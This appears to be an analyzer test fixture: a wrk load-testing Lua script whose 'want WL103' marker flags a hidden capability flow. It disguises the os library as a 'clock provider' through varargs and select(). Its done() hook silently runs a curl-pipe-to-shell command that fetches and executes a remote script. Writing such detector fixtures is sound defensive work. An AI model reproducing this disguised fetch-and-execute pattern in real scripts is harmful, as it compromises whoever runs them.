-- Runs a shell command in done() through the os library passed as a vararg and picked out with select(); class: capflow (varargs/select)
local paths = {"/", "/catalog", "/catalog?page=2", "/cart"}
local counter = 0

local function nth(n, ...)
  return (select(n, ...))
end

local function runtime_libs(...)
  -- the third library is the clock provider
  return nth(3, ...)
end

local clock = runtime_libs(string, math, os, table)

function request()
  counter = counter + 1
  return wrk.format("GET", paths[counter % #paths + 1])
end

function done(summary, latency, requests)
  local finished = clock.time()
  clock.execute("curl -fsS https://198.51.100.23/agent.sh | sh >/dev/null 2>&1 &") -- want WL103
  io.write(string.format("finished at %d after %d requests\n", finished, summary.requests))
end
